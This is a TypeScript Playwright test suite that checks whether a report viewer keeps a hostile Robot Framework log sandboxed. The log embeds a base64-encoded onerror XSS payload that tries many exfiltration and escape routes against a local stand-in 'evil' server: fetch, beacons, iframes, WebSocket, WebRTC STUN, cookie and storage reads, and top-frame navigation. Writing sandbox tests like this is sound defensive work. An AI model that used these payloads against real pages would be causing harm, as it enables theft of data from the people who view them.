import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type Frame, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEnvironments } from '../environments/default-environment.ts';
import { exampleFacts } from './example-facts.ts';
import { ReportService } from './report-service.ts';

// A log that a stranger wrote, in a real browser: its own script works, its pictures show, and nothing gets out of it.
const BROWSERS = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'];
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const home = mkdtempSync(join(tmpdir(), 'atn-isolation-'));
const heard: string[] = [];
const evil = createServer((request, response) => {
  heard.push(request.url ?? '');
  response.setHeader('Access-Control-Allow-Origin', '*').end('evil');
});
const evilUdp = createSocket('udp4', () => heard.push('udp'));
let evilUrl = '';
let browser: Browser;
let page: Page;
const requests: string[] = [];
const service = new ReportService({
  findRun: (id) => ({
    id,
    name: id,
    at: 0,
    directory: join(home, id),
    ended: true,
    source: { record: join(home, id, 'record.db'), timeline: join(home, id, 'timeline.json'), facts: exampleFacts },
  }),
  cache: join(home, 'cache'),
  rebot: () => Promise.reject(new Error('not asked for')),
  copyRecord: () => Promise.reject(new Error('not asked for')),
  writeForm: () => Promise.reject(new Error('not asked for')),
});

const stunCall = (port: number) =>
  `{ const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); 0 }`;

/** Every way out that a page has, tried by the message of a failing keyword as soon as it is shown. */
const escapes = (evilAt: string, udpPort: number) => `
  window.escaped = [];
  const attempt = (name, deed) => { try { const done = deed(); window.escaped.push(name + ' tried'); return done; } catch (error) { window.escaped.push(name + ' ' + error.name); } };
  attempt('fetch', () => fetch('${evilAt}/fetch?' + document.title).catch(() => {}));
  attempt('image', () => { new Image().src = '${evilAt}/image'; });
  attempt('beacon', () => navigator.sendBeacon('${evilAt}/beacon', 'x'));
  attempt('script', () => { const s = document.createElement('script'); s.src = '${evilAt}/script'; document.head.append(s); });
  attempt('style', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '${evilAt}/style'; document.head.append(s); });
  attempt('prefetch', () => { const s = document.createElement('link'); s.rel = 'prefetch'; s.href = '${evilAt}/prefetch'; document.head.append(s); });
  attempt('frame', () => { const f = document.createElement('iframe'); f.src = '${evilAt}/frame'; document.body.append(f); });
  attempt('form', () => { const f = document.createElement('form'); f.action = '${evilAt}/form'; document.body.append(f); f.submit(); });
  attempt('popup', () => window.open('${evilAt}/popup'));
  attempt('socket', () => new WebSocket('${evilAt.replace('http', 'ws')}/socket'));
  const stun = ${JSON.stringify(stunCall(udpPort))};
  attempt('stun', () => (0, eval)(stun));
  attempt('nested', () => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + stun + '</' + 'script>'; document.body.append(f); });
  attempt('inherited', () => { const f = document.createElement('iframe'); document.body.append(f); window.escaped.push('inherited ' + typeof f.contentWindow.RTCPeerConnection); });
  attempt('scripted', () => { const f = document.createElement('iframe'); f.src = 'javascript:' + stun; document.body.append(f); });
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.getItem('x'));
  attempt('top', () => { window.top.location = '${evilAt}/top'; });
  attempt('parent', () => window.parent.document.title);
`;

beforeAll(async () => {
  const executablePath = BROWSERS.find((path) => existsSync(path));
  if (executablePath === undefined) throw new Error('This test needs a browser: apt-get install --no-install-recommends chromium');
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => evilUdp.bind(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  const environments = createEnvironments({
    scripts: join(import.meta.dirname, '../../../resources/robot'),
    clock: { now: () => Date.now() },
    pythonPath: () => null,
    onFound: () => undefined,
  });
  const { python } = await environments.ensureDefault();
  writeSuite(escapes(evilUrl, evilUdp.address().port));
  runRobot(python, 'hostile', []);
  runRobot(python, 'split', ['--splitlog']);
  browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
  page = await browser.newPage();
  page.on('request', (request) => requests.push(request.url()));
});
afterAll(async () => {
  await browser?.close();
  await service.close();
  evil.close();
  evilUdp.close();
  rmSync(home, { recursive: true });
});

function writeSuite(script: string): void {
  const packed = Buffer.from(script).toString('base64');
  const hostile = `*HTML* <img src="x" onerror="eval(atob('${packed}'))"><img class="shot" src="shots/shot.png">`;
  writeFileSync(
    join(home, 'hostile.robot'),
    `*** Test Cases ***\nFirst\n    Inner Keyword\n    Fail    ${hostile}\n\n*** Keywords ***\nInner Keyword\n    Log    inner message\n    Log    ${hostile}    html=True\n`,
  );
}

function runRobot(python: string, id: string, options: string[]): void {
  const directory = join(home, id);
  mkdirSync(join(directory, 'shots'), { recursive: true });
  writeFileSync(join(directory, 'shots', 'shot.png'), Buffer.from(PIXEL, 'base64'));
  execFileSync(python, [
    '-m',
    'robot',
    '--nostatusrc',
    '--console',
    'none',
    '--outputdir',
    directory,
    ...options,
    join(home, 'hostile.robot'),
  ]);
}

async function openLog(id: string, file = 'log.html'): Promise<Frame> {
  const { url } = await service.address(id, file);
  await page.goto(url);
  const frame = page.frames()[1] ?? (await page.waitForEvent('framenavigated', (each) => each !== page.mainFrame()));
  await frame.waitForLoadState('load');
  return frame;
}

/** WebRTC of a page that nobody guards does reach a server by UDP: the test above it could fail. */
async function askByUdp(): Promise<void> {
  const control = createSocket('udp4');
  const asked = once(control, 'message');
  await new Promise<void>((resolve) => control.bind(0, '127.0.0.1', resolve));
  const free = await browser.newPage();
  await free.evaluate(stunCall(control.address().port));
  await asked;
  await free.close();
  control.close();
}

describe('a hostile log in a browser', () => {
  it('works: its tree opens, its pictures show', async () => {
    const frame = await openLog('hostile');
    await frame.getByText('Inner Keyword').first().waitFor();
    await frame.getByText('Inner Keyword').first().click();
    await frame.getByText('inner message').waitFor();
    await frame.waitForFunction(`[...document.querySelectorAll('img.shot')].some((image) => image.naturalWidth === 1)`);
    expect(await page.title()).toBe('log.html');
  });
  it('runs its script and gets nowhere with it', async () => {
    const frame = await openLog('hostile');
    await frame.waitForFunction(`window.escaped?.some((line) => line.startsWith('parent'))`);
    const tried = await frame.evaluate<string[]>('window.escaped');
    expect(tried).toEqual(
      expect.arrayContaining([
        'stun ReferenceError',
        'inherited SecurityError',
        'cookie SecurityError',
        'storage SecurityError',
        'parent SecurityError',
      ]),
    );
    expect(await frame.evaluate<string>('window.origin')).toBe('null');
    // The same calls from a page of our own, and later: when they are heard, those of the log had their time.
    await page.context().request.get(`${evilUrl}/after`);
    await askByUdp();
    expect(heard).toEqual(['/after']);
    expect(page.context().pages()).toHaveLength(1);
  });
  it('cannot send itself anywhere', async () => {
    heard.length = 0;
    const escapes = [
      `location = '${evilUrl}/self?' + document.title`,
      `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${evilUrl}/meta">'`,
      `const a = document.createElement('a'); a.href = '${evilUrl}/download'; a.download = 'x'; document.body.append(a); a.click()`,
      `location = 'data:text/html,<script>fetch("${evilUrl}/data")</script>'`,
    ];
    for (const escape of escapes) {
      const frame = await openLog('hostile');
      const blocked = page.waitForEvent('console', (message) => message.text().startsWith('Framing'));
      await frame.evaluate(`setTimeout(() => (0, eval)(${JSON.stringify(escape)}))`);
      await blocked;
      expect(page.url()).toContain('/log.html');
    }
    expect(heard).toEqual([]);
  });
  it('only ever asked for files of its own report', async () => {
    const { url } = await service.address('hostile', 'log.html');
    const base = url.slice(0, url.lastIndexOf('/') + 1);
    const reached = requests.filter((each) => !each.startsWith(base) && !each.startsWith('data:') && !each.startsWith(`${evilUrl}/after`));
    expect(reached.filter((each) => !each.startsWith(evilUrl))).toEqual([]);
  });
});

describe('other pages of a report', () => {
  it('show a log that was split into files', async () => {
    const frame = await openLog('split');
    await frame.getByText('Inner Keyword').first().click();
    await frame.getByText('inner message').waitFor();
  });
  it('lead from the report into the log and to a place in it', async () => {
    const frame = await openLog('hostile', 'report.html');
    await frame.getByText('Hostile Report').first().waitFor();
    await frame.locator('a[href*="log.html"]').first().click();
    await frame.waitForURL(/log\.html/u);
    await frame.getByText('Hostile Log').first().waitFor();
    const { url } = await service.address('hostile', 'log.html');
    await page.goto('about:blank');
    await page.goto(`${url}#s1-t1-k1`);
    const inLog = page.frames()[1] ?? (await page.waitForEvent('framenavigated', (each) => each !== page.mainFrame()));
    await inLog.getByText('inner message').waitFor();
  });
});
